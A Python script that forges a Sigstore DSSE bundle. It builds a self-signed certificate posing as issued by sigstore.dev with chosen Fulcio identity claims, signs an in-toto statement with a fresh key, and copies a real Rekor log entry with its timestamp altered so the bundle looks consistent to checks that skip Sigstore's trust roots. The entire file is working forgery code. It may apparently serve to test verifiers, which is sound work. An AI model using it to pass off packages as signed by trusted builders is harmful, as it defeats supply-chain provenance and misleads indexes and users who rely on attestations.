"""Writes a Sigstore bundle (v0.3, DSSE) that is self-consistent but chains to nothing: a fresh
P-256 key, a self-signed certificate carrying the Fulcio claims given, an in-toto statement signed
with that key, and a copy of a real Rekor entry with its time moved into the certificate's
validity. Everything the index can check alone holds; only Sigstore's roots can tell it is forged.

    python forge_bundle.py CLAIMS_JSON STATEMENT_JSON REAL_BUNDLE_JSON > bundle.json

CLAIMS_JSON maps Fulcio claim OIDs (1.3.6.1.4.1.57264.1.N) to strings.
"""

import base64
import datetime
import json
import sys

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID


def der_utf8(value: str) -> bytes:
    data = value.encode()
    assert len(data) < 0x10000
    if len(data) < 0x80:
        length = bytes([len(data)])
    elif len(data) < 0x100:
        length = bytes([0x81, len(data)])
    else:
        length = bytes([0x82, len(data) >> 8, len(data) & 0xFF])
    return b"\x0c" + length + data


def pae(payload_type: str, payload: bytes) -> bytes:
    t = payload_type.encode()
    return b"DSSEv1 %d %s %d %s" % (len(t), t, len(payload), payload)


def main() -> None:
    claims = json.loads(sys.argv[1])
    statement = json.dumps(json.loads(sys.argv[2])).encode()
    with open(sys.argv[3]) as f:
        real = json.load(f)
    key = ec.generate_private_key(ec.SECP256R1())
    now = datetime.datetime.now(datetime.timezone.utc)
    name = x509.Name([x509.NameAttribute(NameOID.ORGANIZATION_NAME, "sigstore.dev")])
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([]))
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - datetime.timedelta(minutes=1))
        .not_valid_after(now + datetime.timedelta(minutes=10))
        .add_extension(x509.SubjectAlternativeName([x509.UniformResourceIdentifier(claims.get("1.3.6.1.4.1.57264.1.9", "https://example.invalid"))]), critical=True)
    )
    for oid, value in claims.items():
        builder = builder.add_extension(x509.UnrecognizedExtension(x509.ObjectIdentifier(oid), der_utf8(value)), critical=False)
    cert = builder.sign(key, hashes.SHA256())
    signature = key.sign(pae("application/vnd.in-toto+json", statement), ec.ECDSA(hashes.SHA256()))
    entry = json.loads(json.dumps(real["verificationMaterial"]["tlogEntries"][0]))
    entry["integratedTime"] = str(int(now.timestamp()))
    bundle = {
        "mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json",
        "verificationMaterial": {
            "certificate": {"rawBytes": base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()},
            "tlogEntries": [entry],
        },
        "dsseEnvelope": {
            "payload": base64.b64encode(statement).decode(),
            "payloadType": "application/vnd.in-toto+json",
            "signatures": [{"sig": base64.b64encode(signature).decode()}],
        },
    }
    json.dump(bundle, sys.stdout)


main()
